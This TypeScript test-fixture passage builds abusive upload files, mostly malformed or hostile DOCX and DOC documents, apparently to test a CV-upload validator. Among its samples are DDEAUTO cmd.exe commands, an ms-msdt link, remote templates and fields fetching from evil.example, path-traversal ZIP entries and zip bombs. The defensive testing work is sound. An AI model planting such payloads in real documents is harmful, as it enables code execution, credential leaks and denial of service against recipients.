      'a bomb: too many objects in many streams': pdfWith(
        Array<string>(21)
          .fill(objectStream(manyObjects(10_000)))
          .join('\nendobj\n5 0 obj\n'),
      ),
    }),
  ]
}

function docxFiles(): Array<AbuseFile> {
  const docxWithTypes = (content: string) =>
    sampleZip([{ name: '[Content_Types].xml', bytes: content }, ...docxEntries().slice(1)])
  const entries = docxEntries()
  const docxWithExternalRelation = (kind: string, target: string) =>
    sampleDocx({ settings: relation(kind, target, { isExternal: true }) })
  const officeTypePrefix = 'application/vnd.openxmlformats-officedocument'
  return [
    ...abuseFilesNamed('cv.docx', 'type-not-allowed', {
      'an Excel table': sampleDocx({ mainType: `${officeTypePrefix}.spreadsheetml.sheet.main+xml` }),
      'a PowerPoint presentation': sampleDocx({ mainType: `${officeTypePrefix}.presentationml.presentation.main+xml` }),
      'a Word template': sampleDocx({ mainType: WORD_TYPE.replace('document.main', 'template.main') }),
    }),
    ...abuseFilesNamed('cv.docx', 'has-macros', {
      'a DOCM': sampleDocx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
      'a DOCX with macros': sampleDocx({ more: [{ name: 'word/vbaProject.bin', bytes: 'x' }] }),
      'a DOCX with macros under another name': docxWithTypes(
        `<Types><Override PartName="/word/document.xml" ContentType="${WORD_TYPE}"/><Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
      ),
    }),
    ...abuseFilesNamed('cv.docx', 'needs-outside-files', {
      'a DOCX with a template from a website': docxWithExternalRelation(
        'attachedTemplate',
        'https://evil.example/t.dotm',
      ),
      'a DOCX with a template on a network share': docxWithExternalRelation(
        'attachedTemplate',
        '\\\\evil.example\\t.dotm',
      ),
      'a DOCX with a template on a network share as a file URL': docxWithExternalRelation(
        'attachedTemplate',
        'file://evil.example/t.dotm',
      ),
      'a DOCX that spells an external template with escapes': sampleDocx({
        settings: `<r:Relationship Target='https&#58;//evil.example/t' TargetMode = "&#69;xternal" Type="a/attachedTemplate" Id="a>b"/>`,
      }),
      'a DOCX with an object from a website': sampleDocx({
        more: [
          {
            name: 'word/_rels/footer1.xml.rels',
            bytes: relation('oleObject', 'mhtml:https://evil.example/x.html', { isExternal: true }),
          },
        ],
      }),
      'a DOCX with a .rels file in UTF-16': sampleDocx({
        more: [
          {
            name: 'word/_rels/webSettings.xml.rels',
            bytes: Buffer.from(`\ufeff${relation('frame', 'https://evil.example/', { isExternal: true })}`, 'utf16le'),
          },
        ],
      }),
      'a DOCX whose document has an unusual path': sampleDocx({
        mainPart: 'letters/one.xml',
        more: [
          {
            name: 'letters/_rels/settings.xml.rels',
            bytes: relation('attachedTemplate', 'https://evil.example/t.dotm', { isExternal: true }),
          },
        ],
      }),
      'a DOCX with a linked picture from a website': docxWithExternalRelation('image', 'https://evil.example/a.png'),
      'a DOCX with a picture on a network share': docxWithExternalRelation('image', 'file://evil.example/a.png'),
      'a DOCX with a video from a website': docxWithExternalRelation('video', 'https://evil.example/a'),
      'a DOCX with a link to a network share': docxWithExternalRelation('hyperlink', '%5C%5Cevil.example\\a'),
      'a DOCX with XML names outside ASCII': sampleDocx({ settings: relationWithNonAsciiNames() }),
      ...Object.fromEntries(
        fieldsThatFetchFromWeb().map(code => [`a DOCX with the field ${code}`, sampleDocx({ text: wordField(code) })]),
      ),
      'a DOCX with a field in one element that fetches from the web': sampleDocx({
        text: `<w:fldSimple w:instr='includetext "https://evil.example/a"'><w:r/></w:fldSimple>`,
      }),
    }),
    ...abuseFilesNamed('cv.docx', 'holds-another-file', {
      'a DOCX with an OLE object in it': sampleDocx({ more: [{ name: 'word/embeddings/oleObject1.bin', bytes: 'x' }] }),
      'a DOCX with an OLE object under another name': sampleDocx({
        settings: relation('oleObject', 'media/image1.png'),
      }),
      'a DOCX with an ActiveX control': sampleDocx({ settings: relation('control', 'a.xml') }),
      'a DOCX with an ActiveX control in two parts': sampleDocx({
        settings: relation('activeXControlBinary', 'activeX1.bin'),
      }),
      'a DOCX with a link that starts a program': docxWithExternalRelation(
        'hyperlink',
        'ms-msdt:/id PCWDiagnostic /skip force',
      ),
      'a DOCX with a link that opens a search': docxWithExternalRelation(
        'hyperlink',
        'Search-ms&#58;query=a&amp;crumb=location:\\\\evil.example',
      ),
      'a DOCX with an HTML page in it': sampleDocx({ settings: relation('aFChunk', 'a.html') }),
      ...Object.fromEntries(commandFields().map(({ what, text }) => [what, sampleDocx({ text })])),
      'a DOCX with a command in its footer': sampleDocx({
        more: [{ name: 'word/footer1.xml', bytes: `<w:p>${wordField('DDEAUTO c:\\\\cmd.exe')}</w:p>` }],
      }),
      'a DOCX with a command in a part named like a picture': sampleDocx({
        mainPart: 'word/document.png',
        text: wordField('DDE excel a b'),
      }),
    }),
    ...abuseFilesNamed('cv.docx', 'cannot-be-checked', {
      'a DOCX with a wrong ZIP64 locator': withWrongZip64Locator(sampleDocx()),
      'a DOCX that uses a part of its ZIP64 directory': withZip64(sampleDocx(), { isPartly: true }),
      'a bomb: forty megabytes of text': sampleDocx({
        text: Array.from({ length: 400_000 }, (_, index) => `${index}${' '.repeat(94)}`).join(''),
      }),
      'a bomb: comments that never end in fields that never end': sampleDocx({
        text: `<w:instrText>${'<!--'.repeat(2497)}`.repeat(500),
      }),
      'a bomb: more text than a book has': sampleDocx({
        text: Array.from({ length: 180_000 }, (_, index) => `${index}${' '.repeat(94)}`).join(''),
      }),
    }),
    ...abuseFilesNamed('cv.docx', 'damaged', {
      'a DOCX with a .rels file in pieces': sampleDocx({
        more: [{ name: 'word/_rels/footer1.xml.rels/[0].piece', bytes: '<Relationships><Relat' }],
      }),
      ...Object.fromEntries(
        ambiguousRelationLists().map(({ what, bytes }) => [
          what,
          sampleDocx({ more: [{ name: 'word/_rels/footer1.xml.rels', bytes }] }),
        ]),
      ),
      'a DOCX with two names for one .rels file': docxWithSecondName(),
      'a bomb: fifteen large .rels files': sampleDocx({
        more: Array.from({ length: 15 }, (_, index) => ({
          name: `word/_rels/${index}.rels`,
          bytes: MANY_XML_ELEMENTS,
        })),
      }),
      'a bomb: hundreds of .rels files': sampleDocx({
        more: Array.from({ length: 300 }, (_, index) => ({ name: `word/_rels/${index}.rels` })),
      }),
      'a bomb: a .rels file with very many XML elements': sampleDocx({
        more: [{ name: 'word/_rels/footer1.xml.rels', bytes: MANY_XML_ELEMENTS }],
      }),
      'a DOCX without its document': sampleZip(entries.filter(({ name }) => name !== 'word/document.xml')),
      'a DOCX cut off': sampleDocx().subarray(0, -30),
      'a DOCX with a document with macros after its end': Buffer.concat([
        sampleDocx(),
        sampleDocx({ more: [{ name: 'word/vbaProject.bin', bytes: 'x' }] }),
      ]),
      'a DOCX with an entry outside its folder': sampleDocx({ more: [{ name: '../../../etc/cron.d/x' }] }),
      'a DOCX with an entry at an absolute path': sampleDocx({ more: [{ name: '/etc/passwd' }] }),
      'a DOCX with one name twice': sampleDocx({ more: [{ name: 'word/Document.xml', bytes: 'a' }] }),
      'a DOCX with an unknown compression method': sampleDocx({
        more: [{ name: 'word/a.xml', bytes: 'abc', declared: { method: 99 } }],
      }),
      'a bomb: 4 GB in 120 bytes': sampleDocx({
        more: [{ name: 'word/a.xml', bytes: Buffer.alloc(100_000), declared: { uncompressed: 0xfffffffe } }],
      }),
      'a bomb: an entry that declares a size of zero': sampleDocx({
        more: [{ name: 'word/a.xml', bytes: Buffer.alloc(100_000), declared: { uncompressed: 0 } }],
      }),
      'a bomb: thirty megabytes of one letter': sampleDocx({
        more: [{ name: 'word/a.xml', bytes: Buffer.alloc(30_000_000, 'a') }],
      }),
      'a bomb: thirty megabytes declared as a hundred bytes': sampleDocx({
        more: [{ name: 'word/media/a.png', bytes: Buffer.alloc(30_000_000, 'a'), declared: { uncompressed: 100 } }],
      }),
      'a bomb: 42 entries that share their bytes': sampleDocx({
        more: Array.from({ length: 42 }, (_, index) => ({
          name: `word/${index}.xml`,
          bytes: Buffer.alloc(5000),
          declared: { offset: 0 },
        })),
      }),
      'a bomb: a hundred thousand entries': sampleZip([
        ...entries,
        ...Array.from({ length: 100_000 }, (_, index) => ({ name: `w${index}`, isStored: true })),
      ]),
      'a bomb: a ZIP directory with two megabytes of extra fields': sampleDocx({
        more: Array.from({ length: 32 }, (_, index) => ({ name: `word/${index}.xml`, extra: Buffer.alloc(65_532) })),
      }),
      'a bomb: a [Content_Types].xml of a megabyte': docxWithTypes(`<Types>${' '.repeat(1_000_000)}</Types>`),
      'a bomb: a .rels file of two megabytes': sampleDocx({ settings: ' '.repeat(2_000_000) }),
      'a DOCX whose [Content_Types].xml is larger than declared': docxWithWrongTypesSize(),
      'a DOCX with an entry beyond the end of the file': sampleDocx({
        more: [{ name: 'word/a.xml', bytes: 'abc', declared: { offset: 0x7fffffff } }],
      }),
    }),
    ...abuseFilesNamed('cv.docx', 'has-password', {
      'a DOCX with an encrypted entry': sampleDocx({
        more: [{ name: 'word/a.xml', bytes: 'abc', declared: { flags: 1 } }],
      }),
    }),
  ]
}

function docFiles(): Array<AbuseFile> {
  const workbookStream = Buffer.alloc(4096)
  const doc = sampleDoc()
  const withUint32 = (at: number, value: number) => {
    const copy = Buffer.from(doc)
    copy.writeUInt32LE(value, at)
    return copy
  }
  const directoryOffset = (doc.readUInt32LE(48) + 1) * 512
  const sectorTableOffset = (doc.readUInt32LE(76) + 1) * 512
  return [
    ...abuseFilesNamed('letter.doc', 'type-not-allowed', {
      'an Excel 97 table': sampleCompoundFile({ Workbook: workbookStream }),
      'an Excel 97 table with a Word document in it': sampleCompoundFile({
        Workbook: workbookStream,
        'MBD001/WordDocument': wordStream(),
      }),
      'an Outlook message': sampleCompoundFile({ '__properties_version1.0': Buffer.alloc(64) }),
      'a DOC whose root is its own child': withUint32(directoryOffset + 76, 0),
    }),
    ...abuseFilesNamed('letter.doc', 'has-password', {
      'a DOCX with a password': sampleCompoundFile({
        EncryptionInfo: Buffer.alloc(200),
        EncryptedPackage: Buffer.alloc(5000),
      }),
      'a DOC with a password': sampleDoc({ isEncrypted: true }),
      'a short DOC with a password': sampleCompoundFile({
        CompObj: Buffer.alloc(700),
        WordDocument: wordStream({ size: 64, isEncrypted: true }),
      }),
    }),
    ...abuseFilesNamed('letter.doc', 'has-macros', {
      'a DOC with macros': sampleDoc({ more: { 'Macros/VBA/dir': Buffer.alloc(100) } }),
      'a DOC with macros in an embedded object': sampleDoc({
        more: { 'ObjectPool/_1/_VBA_PROJECT_CUR/PROJECT': Buffer.alloc(100) },
      }),
    }),
    ...abuseFilesNamed('letter.doc', 'holds-another-file', {
      'a DOC with a command': sampleDoc({ text: '\x13 ddeauto c:\\cmd.exe \x14a\x15' }),
      'a DOC with a command in UTF-16': sampleDoc({
        text: Buffer.from('A\x13DDE excel a b\x15', 'utf16le').subarray(1).toString('latin1'),
      }),
      'a DOC with a command written as character codes': sampleDoc({ text: '\x13\x13QUOTE 68 68 69\x14\x15\x15' }),
      'a DOC with a file in it': sampleDoc({ more: { 'ObjectPool/_1/\x01Ole10Native': Buffer.alloc(5000) } }),
    }),
    ...abuseFilesNamed(
      'letter.doc',
      'needs-outside-files',
      Object.fromEntries(
        fieldsThatFetchFromWeb().map(code => [
          `a DOC with the field ${code}`,
          sampleDoc({ text: `\x13 ${code} \x14a\x15` }),
        ]),
      ),
    ),
    ...abuseFilesNamed('letter.doc', 'damaged', {
      'a DOC whose text stream has no signature': sampleCompoundFile({ WordDocument: Buffer.alloc(4096) }),
      'a DOC with an empty text stream': sampleCompoundFile({ WordDocument: Buffer.alloc(0) }),
      'only the beginning of a DOC': doc.subarray(0, 300),
      'a DOC cut off before its sector table': doc.subarray(0, 2000),
      'a DOC in another byte order': withFlippedByte(doc, 28),
      'a DOC with a wrong sector size': withFlippedByte(doc, 30),
      'a DOC without a sector table': withUint32(44, 0),
      'a DOC with a sector table larger than the file': withUint32(44, 0xffffffff),
      'a DOC whose sector table is beyond the end of the file': withUint32(76, 0x00ffffff),
      'a DOC whose directory is beyond the end of the file': withUint32(48, 0x7fffffff),
      'a DOC whose directory has no root': withFlippedByte(doc, directoryOffset + 66),
      'a DOC whose directory chain is a loop': withUint32(
        sectorTableOffset + doc.readUInt32LE(48) * 4,
        doc.readUInt32LE(48),
      ),
      'a DOC whose text is in an endless chain of sectors': docWithEndlessChain(),
    }),
  ]
}

/** Fields whose content Word fetches from the web. Without `\\d`, Word keeps a copy of the picture in the document. */
function fieldsThatFetchFromWeb(): Array<string> {
  return [
    'INCLUDEPICTURE "http://evil.example/x.png" \\d',
    'INCLUDEPICTURE \\d "https://evil.example/x.png" \\* MERGEFORMATINET',
    ' includetext "HTTPS://evil.example/a.docx"',
    'INCLUDETEXT http:\\\\evil.example/a.docx',
    'IMPORT "http://evil.example/x.png"',
    'LINK Word.Document.12 "http://evil.example/a.docx" "" \\a',
  ]
}

function commandFields(): Array<{ what: string; text: string }> {
  const commandInOneElement = '<w:fldSimple w:dirty="true" w:instr=" ddeauto excel a b "><w:r/></w:fldSimple>'
  const commandSplitOverRuns =
    '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c</w:instrText></w:r>'
  const escapedCommand = '<w:instrText>&#68;<!-- -->D<![CDATA[E]]> excel a b</w:instrText>'
  return [
    { what: 'a DOCX with a command', text: wordField('DDEAUTO c:\\\\cmd.exe "/k calc"') },
    {
      what: 'a DOCX with a field that reads a network share',
      text: wordField('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"'),
    },
    {
      what: 'a DOCX with a field that reads a network share as a file URL',
      text: wordField(' IncludeText file://evil.example/a'),
    },
    { what: 'a DOCX with a command in one element', text: commandInOneElement },
    { what: 'a DOCX with a command split over two runs', text: `${FIELD_BEGIN}${commandSplitOverRuns}${FIELD_END}` },
    { what: 'a DOCX with a command in escapes and CDATA', text: `${FIELD_BEGIN}${escapedCommand}${FIELD_END}` },
    {
      what: 'a DOCX with a command written as character codes',
      text: `${FIELD_BEGIN}${wordField('QUOTE 68 68 69 65')}${FIELD_END}`,
    },
  ]
}

const FIELD_BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
const FIELD_END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'

function wordField(code: string): string {
  return `${FIELD_BEGIN}<w:r><w:instrText>${code}</w:instrText></w:r>${FIELD_END}`
}

const MANY_XML_ELEMENTS = '<a b=""/>'.repeat(115_000)

/** A DOCX relationship whose XML names contain non-ASCII characters, which XML allows. */
function relationWithNonAsciiNames(): string {
  const asciiRelation = relation('frame', 'https://evil.example/', { isExternal: true })
  return asciiRelation.replace('<Relationship ', '<é:Relationship xmlns:é="u" a\ufeff="b" Target\ufeff="a" ')
}

/** Returns DOCX parts (.rels) that two XML readers could understand differently. */
function ambiguousRelationLists(): Array<{ what: string; bytes: Buffer }> {
  const relationships = relation('frame', 'https://evil.example/', { isExternal: true })
  const attribute = '<!ATTLIST Relationship TargetMode CDATA "External">'
  return [
    {
      what: 'a DOCX with a .rels file in UTF-16 without a byte order mark',
      bytes: Buffer.from(relationships, 'utf16le'),
    },
    {
      what: 'a DOCX with a .rels file in UTF-7',
      bytes: Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${relationships}`),
    },
    {
      what: 'a DOCX with a .rels file in invalid UTF-8',
      bytes: Buffer.concat([Buffer.from(relationships), Buffer.from([0xff])]),
    },
    {
      what: 'a DOCX with a .rels file that declares attributes',
      bytes: Buffer.from(`<!DOCTYPE a [${attribute}]>${relationships}`),
    },
    { what: 'a DOCX with a .rels file with CDATA', bytes: Buffer.from(`<a><![CDATA[>]]>${relationships}</a>`) },
    { what: 'a DOCX with a .rels file that is cut off', bytes: Buffer.from(relationships.slice(0, -3)) },
  ]
}

/** A DOCX with a ZIP entry that has a second name in its extra field, in the format of Info-ZIP. */
function docxWithSecondName(): Buffer {
  const name = 'word/_rels/footer1.xml.rels'
  const extra = Buffer.concat([Buffer.from([0x75, 0x70, 10, 0, 1, 0, 0, 0, 0]), Buffer.from('a.xml')])
  extra.writeUInt32LE(crc32(name), 5)
  const bytes = relation('frame', 'https://evil.example/', { isExternal: true })
  return sampleDocx({ more: [{ name, bytes, extra }] })
}

/** Returns a DOCX whose `[Content_Types].xml` gives every XML part the type of a Word document, as some programs do. */
function docxTypedByDefault(): Buffer {
  const types = `<Types><Default Extension='xml' ContentType='${WORD_TYPE}' /></Types>`
  return sampleZip([{ name: '[Content_Types].xml', bytes: types }, ...docxEntries().slice(1)])
}

/** A DOC whose sectors form an endless loop, while its directory says that the text begins after 256 GB. */
function docWithEndlessChain(): Buffer {
  const doc = sampleCompoundFile({ WordDocument: wordStream({ size: 64 }) })
  const [table, directory] = [(doc.readUInt32LE(76) + 1) * 512, (doc.readUInt32LE(48) + 1) * 512]
  const root = doc.readUInt32LE(directory + 116)
  doc.writeUInt32LE(root, table + root * 4)
  doc.writeUInt32LE(0xffffffff, directory + 120)
  doc.writeUInt32LE(0xffffffff, doc.indexOf(Buffer.from('WordDocument', 'utf16le')) + 116)
  return doc
}

/** Returns a DOCX whose `[Content_Types].xml` unpacks to more bytes than its ZIP header declares. */
function docxWithWrongTypesSize(): Buffer {
  const [types, ...rest] = docxEntries()
  return sampleZip([{ ...types, name: '[Content_Types].xml', declared: { uncompressed: 300 } }, ...rest])
}

/** Adds a ZIP64 end-of-directory locator that points outside the file. */
function withWrongZip64Locator(zip: Buffer): Buffer {
  const locator = Buffer.concat([Buffer.from('PK\x06\x07', 'latin1'), Buffer.alloc(16, 0xff)])
  return Buffer.concat([zip.subarray(0, -22), locator, zip.subarray(-22)])
}

/** Replaces the numbers of the end record by a ZIP64 record, as some programs always write it. */
function withZip64(zip: Buffer, { isPartly = false } = {}): Buffer {
  const end = Buffer.from(zip.subarray(-22))
  const [record, locator] = [Buffer.alloc(56), Buffer.alloc(20)]
  record.write('PK\x06\x06', 'latin1')
  record.writeUInt32LE(44, 4)
  record.set([45, 0, 45, 0], 12)
  record.writeUInt32LE(end.readUInt16LE(8), 24)
  record.writeUInt32LE(end.readUInt16LE(10), 32)
  record.writeUInt32LE(end.readUInt32LE(12), 40)
  record.writeUInt32LE(end.readUInt32LE(16), 48)
  locator.write('PK\x06\x07', 'latin1')
  locator.writeUInt32LE(zip.length - 22, 8)
  locator.writeUInt32LE(1, 16)
  end.fill(0xff, 8, isPartly ? 12 : 20)
  return Buffer.concat([zip.subarray(0, -22), record, locator, end])
}

function jpegWithoutHeight(jpeg: Buffer): Buffer {
  const copy = Buffer.from(jpeg)
  copy.writeUInt16BE(0, copy.indexOf(Buffer.from([0xff, 0xc0])) + 5)
  return copy
}

function withFlippedByte(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes)
  copy[at] = (copy[at] ?? 0) ^ 0xff
  return copy
}

function withPngChunk(png: Buffer, type: string, data: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 33), pngChunk(type, data), png.subarray(33)])
}

function pngOf(...chunks: Array<Buffer>): Buffer {
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...chunks])
}

function pngHeader(width: number, height: number, [depth, colour]: readonly [number, number] = [8, 0]): Buffer {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width, 0)
  data.writeUInt32BE(height, 4)
  data.set([depth, colour], 8)
  return pngChunk('IHDR', data)
}

function pngPixels(): Buffer {
  return pngChunk('IDAT', deflateSync(Buffer.alloc(72)))
}

export function pngChunk(type: string, data: Buffer): Buffer {
  const bytes = Buffer.concat([Buffer.alloc(4), Buffer.from(type, 'latin1'), data, Buffer.alloc(4)])
  bytes.writeUInt32BE(data.length)
  bytes.writeUInt32BE(crc32(bytes.subarray(4, -4)), bytes.length - 4)
  return bytes
}
